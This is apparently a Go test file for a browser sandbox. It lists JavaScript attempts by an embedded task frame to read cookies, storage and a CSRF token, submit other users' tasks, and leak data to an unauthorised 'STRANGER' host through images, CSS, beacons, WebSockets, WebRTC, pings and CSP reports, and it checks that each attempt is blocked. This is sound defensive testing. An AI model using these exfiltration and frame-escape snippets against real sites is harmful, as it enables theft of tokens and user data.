package browser_test

// An attack is one attempt of a worker task template to get at more than its
// task. Script is the body of an async function that says "" when the attempt came
// to nothing, and otherwise what it got. It may use what attackLibrary defines.
// STRANGER stands for the origin of a listener that nobody allowed: that it hears
// nothing is looked at for every attempt, as is that the page stays where it is.
type attack struct {
	name   string
	script string
	// alone is an attempt that may take its own frame away, so it gets one for
	// itself, and only where it leads is looked at.
	alone bool
}

type attackGroup struct {
	title   string
	attacks []attack
}

func attackGroups() []attackGroup {
	return []attackGroup{
		{"what the portal keeps in the browser", keptAttacks()},
		{"the page around, and other tasks", aroundAttacks()},
		{"requests to the portal and the media", requestAttacks()},
		{"telling somebody: by what a page loads", loadAttacks()},
		{"telling somebody: by hints and requests without an answer", hintAttacks()},
		{"telling somebody: by documents within", nestedAttacks()},
		{"telling somebody: by workers and code from elsewhere", codeAttacks()},
		{"leaving: the frame, the tab, new windows", leavingAttacks()},
		{"getting rid of the policy", policyAttacks()},
		{"the device", deviceAttacks()},
	}
}

func keptAttacks() []attack {
	return []attack{
		{name: "an origin that is the portal's", script: `return self.origin === "null" ? "" : self.origin`},
		{name: "read document.cookie", script: `return denied(() => document.cookie)`},
		{name: "set document.cookie", script: `return denied(() => { document.cookie = "planted=1"; })`},
		{name: "cookieStore.getAll", script: `return rejects(() => cookieStore.getAll())`},
		{name: "localStorage", script: `return denied(() => localStorage.length)`},
		{name: "sessionStorage", script: `return denied(() => sessionStorage.length)`},
		{name: "indexedDB.open", script: `return rejects(() => new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no; }))`},
		{name: "caches.open", script: `return rejects(() => caches.open("x"))`},
		{name: "navigator.storage.getDirectory", script: `return rejects(() => navigator.storage.getDirectory())`},
		{name: "document.requestStorageAccess", script: `return rejects(() => document.requestStorageAccess())`},
		{name: "navigator.locks.request", script: `return rejects(() => navigator.locks.request("x", () => 1))`},
		{name: "document.domain", script: `return denied(() => { document.domain = location.hostname; })`},
		{name: "passwords by navigator.credentials", script: `return rejects(async () => { if (await navigator.credentials.get({ password: true, mediation: "silent" }) === null) throw 0; })`},
	}
}

func aroundAttacks() []attack {
	return []attack{
		{name: "parent.document", script: `return denied(() => parent.document.title)`},
		{name: "the token in the page", script: `return denied(() => parent.document.querySelector("meta[name=csrf-token]").content)`},
		{name: "frameElement", script: `return frameElement === null ? "" : "there"`},
		{name: "top.location.href", script: `return denied(() => top.location.href)`},
		{name: "parent.localStorage", script: `return denied(() => parent.localStorage)`},
		{name: "a global of the page", script: `return denied(() => parent.fiducial)`},
		{name: "set a global of the page", script: `return denied(() => { parent.fiducial = 1; })`},
		{name: "parent.history.length", script: `return denied(() => parent.history.length)`},
		{name: "parent.fetch", script: `return denied(() => parent.fetch("/"))`},
		{name: "parent.eval", script: `return denied(() => parent.eval("1"))`},
		{name: "the stack of a refusal", script: `try { parent.document; return "read"; } catch (e) { return /csrf|cookie|token/i.test(e.stack + e.message) ? e.stack : ""; }`},
		{name: "document.referrer", script: `return document.referrer`},
		{name: "window.opener and window.name", script: `return opener === null && name === "" ? "" : "there"`},
		{name: "submit another task by postMessage", script: `for (const t of [parent, top]) t.postMessage({ type: "submit", assignment: "other", answer: { stolen: true } }, "*"); return ""`},
		{name: "be another task: ready under its name", script: `parent.postMessage({ type: "fiducial:ready", assignment: "other", id: "other" }, "*"); return ""`},
		{name: "a frame within that asks for the port", script: `
			const f = document.createElement("iframe");
			const got = new Promise((ok) => addEventListener("message", (e) => { if (e.data?.theft) ok(e.data.theft); }));
			f.srcdoc = "<script>addEventListener('message', (e) => parent.postMessage({ theft: e.ports.length ? 'a port' : 'a message' }, '*')); top.postMessage({ type: 'fiducial:ready', id: 'thief' }, '*'); setTimeout(() => parent.postMessage({ theft: 'nothing' }, '*'), 700)<\/script>";
			document.body.append(f);
			const what = await got;
			return what === "nothing" ? "" : what`},
		{name: "top.close", script: `top.close(); return ""`},
		{name: "parent.stop", script: `return denied(() => parent.stop())`},
	}
}

func requestAttacks() []attack {
	return []attack{
		{name: "fetch of the list of jobs", script: `return rejects(() => fetch(PORTAL + "/", { credentials: "include" }))`},
		{name: "fetch of the task's own page", script: `return rejects(() => fetch(location.href.replace(/.frame.*/, ""), { credentials: "include" }))`},
		{name: "fetch without reading: submit", script: `return rejects(() => fetch(PORTAL + "/tasks/other/submit", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }))`},
		{name: "fetch with keepalive: sign out", script: `return rejects(() => fetch(PORTAL + "/signout", { method: "POST", mode: "no-cors", keepalive: true, credentials: "include" }))`},
		{name: "XMLHttpRequest", script: `return rejects(() => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open("GET", PORTAL + "/"); x.send(); }))`},
		{name: "sendBeacon to the portal", script: `return violates("connect-src", () => navigator.sendBeacon(PORTAL + "/tasks/other/submit", "{}"))`},
		{name: "WebSocket to the portal", script: `return rejects(() => new Promise((ok, no) => { const s = new WebSocket(PORTAL.replace(/^http/, "ws") + "/"); s.onopen = ok; s.onerror = no; }))`},
		{name: "a form that submits another task", script: `return violates("form-action", () => { const f = document.createElement("form"); f.action = PORTAL + "/tasks/other/submit"; f.method = "post"; document.body.append(f); f.submit(); })`},
		{name: "the portal's page as a picture", script: `return image(PORTAL + "/?picture")`},
		{name: "the portal's page as a script", script: `return loads("script", { src: PORTAL + "/?script" })`},
		{name: "the portal within: a frame of its own pages", script: `return violates("frame-src", () => { const f = document.createElement("iframe"); f.src = PORTAL + "/"; document.body.append(f); })`},
		{name: "the medium of another task under this grant", script: `return (await image(OTHER)) || ((await fetch(OTHER).then((r) => r.status, () => 403)) === 403 ? "" : "answered")`},
		{name: "a medium without a grant", script: `return (await image(BARE)) || ((await fetch(BARE).then((r) => r.status, () => 403)) === 403 ? "" : "answered")`},
		{name: "write where the grant reads", script: `return (await fetch(GRANTED, { method: "PUT", body: "x" }).then((r) => r.ok, () => false)) ? "written" : ""`},
		{name: "list the bucket", script: `return (await fetch(BARE.replace(/[^/]+\/[^/]+$/, "")).then((r) => r.ok, () => false)) ? "listed" : ""`},
	}
}

func loadAttacks() []attack {
	return []attack{
		{name: "img", script: `return image(STRANGER + "/img")`},
		{name: "img srcset", script: `return loads("img", { srcset: STRANGER + "/srcset 1x" })`},
		{name: "picture source", script: `const p = document.createElement("picture"); const s = document.createElement("source"); s.srcset = STRANGER + "/source"; p.append(s, document.createElement("img")); document.body.append(p); return violates("img-src", () => {})`},
		{name: "CSS background", script: `return styled("background: url(" + STRANGER + "/background)")`},
		{name: "CSS image-set", script: `return styled("background: image-set('" + STRANGER + "/image-set' 1x)")`},
		{name: "CSS content", script: `return styled("content: url(" + STRANGER + "/content)")`},
		{name: "CSS cursor", script: `return styled("cursor: url(" + STRANGER + "/cursor), auto")`},
		{name: "CSS list-style", script: `return styled("display: list-item; list-style: url(" + STRANGER + "/list-style)")`},
		{name: "CSS border-image", script: `return styled("border: 3px solid; border-image: url(" + STRANGER + "/border) 3")`},
		{name: "CSS attribute selector that tells a value", script: `return sheet("input[value^=a] { background: url(" + STRANGER + "/value-a) }", "img-src", "<input value=abc>")`},
		{name: "CSS @import", script: `return sheet("@import '" + STRANGER + "/import.css';", "style-src-elem")`},
		{name: "CSS @font-face", script: `return sheet("@font-face { font-family: f; src: url(" + STRANGER + "/font) } b { font-family: f }", "font-src", "<b>text</b>")`},
		{name: "FontFace", script: `return rejects(() => new FontFace("g", "url(" + STRANGER + "/fontface)").load())`},
		{name: "link rel=stylesheet", script: `return loads("link", { rel: "stylesheet", href: STRANGER + "/sheet.css" })`},
		{name: "video", script: `return loads("video", { src: STRANGER + "/video" })`},
		{name: "video poster", script: `return violates("img-src", () => { const v = document.createElement("video"); v.poster = STRANGER + "/poster"; document.body.append(v); })`},
		{name: "audio", script: `return loads("audio", { src: STRANGER + "/audio" })`},
		{name: "track", script: `const v = document.createElement("video"); const t = document.createElement("track"); t.src = STRANGER + "/track"; t.default = true; v.append(t); document.body.append(v); v.textTracks[0].mode = "showing"; return violates("media-src", () => {})`},
		{name: "SVG image", script: `return violates("img-src", () => svg("<image href='" + STRANGER + "/svg-image' width='9' height='9'/>"))`},
		{name: "SVG use", script: `svg("<use href='" + STRANGER + "/use#x'/>"); return ""`},
		{name: "SVG feImage", script: `return violates("img-src", () => svg("<filter id='f'><feImage href='" + STRANGER + "/feimage'/></filter><rect width='9' height='9' filter='url(#f)'/>"))`},
		{name: "input type=image", script: `return loads("input", { type: "image", src: STRANGER + "/input" })`},
		{name: "object", script: `return violates("object-src", () => { const o = document.createElement("object"); o.data = STRANGER + "/object"; document.body.append(o); })`},
		{name: "embed", script: `return violates("object-src", () => { const o = document.createElement("embed"); o.src = STRANGER + "/embed"; document.body.append(o); })`},
	}
}

func hintAttacks() []attack {
	hint := func(rel, more string) attack {
		return attack{name: "link rel=" + rel, script: `const l = document.createElement("link"); Object.assign(l, { rel: "` + rel + `", href: STRANGER + "/hint-` + rel + `"` + more + ` }); document.head.append(l); return ""`}
	}
	return []attack{
		hint("dns-prefetch", ""), hint("preconnect", ""), hint("prefetch", ""), hint("preload", `, as: "script"`), hint("modulepreload", ""), hint("prerender", ""),
		hint("icon", ""), hint("manifest", ""), hint("apple-touch-icon", ""), hint("search", `, type: "application/opensearchdescription+xml"`),
		{name: "speculation rules", script: `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: [STRANGER + "/rules-prefetch"], eagerness: "immediate" }], prerender: [{ urls: [STRANGER + "/rules-prerender"], eagerness: "immediate" }] }); document.head.append(s); return ""`},
		{name: "fetch of a stranger", script: `return rejects(() => fetch(STRANGER + "/fetch", { mode: "no-cors" }))`},
		{name: "fetch of a stranger with keepalive", script: `return rejects(() => fetch(STRANGER + "/keepalive", { mode: "no-cors", keepalive: true }))`},
		{name: "fetchLater", script: `try { fetchLater(STRANGER + "/later", { activateAfter: 0 }); } catch {} return ""`},
		{name: "XMLHttpRequest to a stranger", script: `return rejects(() => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open("GET", STRANGER + "/xhr"); x.send(); }))`},
		{name: "sendBeacon to a stranger", script: `return violates("connect-src", () => navigator.sendBeacon(STRANGER + "/beacon", "secret"))`},
		{name: "EventSource", script: `return rejects(() => new Promise((ok, no) => { const s = new EventSource(STRANGER + "/events"); s.onopen = ok; s.onerror = no; }))`},
		{name: "WebSocket to a stranger", script: `return rejects(() => new Promise((ok, no) => { const s = new WebSocket(STRANGER.replace(/^http/, "ws") + "/socket"); s.onopen = ok; s.onerror = no; }))`},
		{name: "WebTransport", script: `return rejects(() => new WebTransport(STRANGER.replace(/^http:/, "https:") + "/transport").ready)`},
		{name: "WebRTC: STUN and TURN", script: `
			const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + UDP }, { urls: "turn:" + UDP + "?transport=udp", username: "secret", credential: "x" }] });
			p.createDataChannel("x");
			await new Promise((ok) => { p.onicegatheringstatechange = () => p.iceGatheringState === "complete" && ok(); p.createOffer().then((o) => p.setLocalDescription(o)); setTimeout(ok, 3000); });
			return ""`},
		{name: "a ping", script: `const a = document.createElement("a"); a.href = "#here"; a.ping = STRANGER + "/ping"; document.body.append(a); a.click(); return ""`},
		{name: "attributionsrc", script: `const i = new Image(); i.setAttribute("attributionsrc", STRANGER + "/attribution"); i.src = "data:,"; document.body.append(i); return ""`},
		{name: "a report of a violation", script: `const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "img-src 'none'; report-uri " + STRANGER + "/report"; document.head.append(m); await image("data:image/gif;base64,R0lGODlhAQABAAAAACw="); return ""`},
	}
}
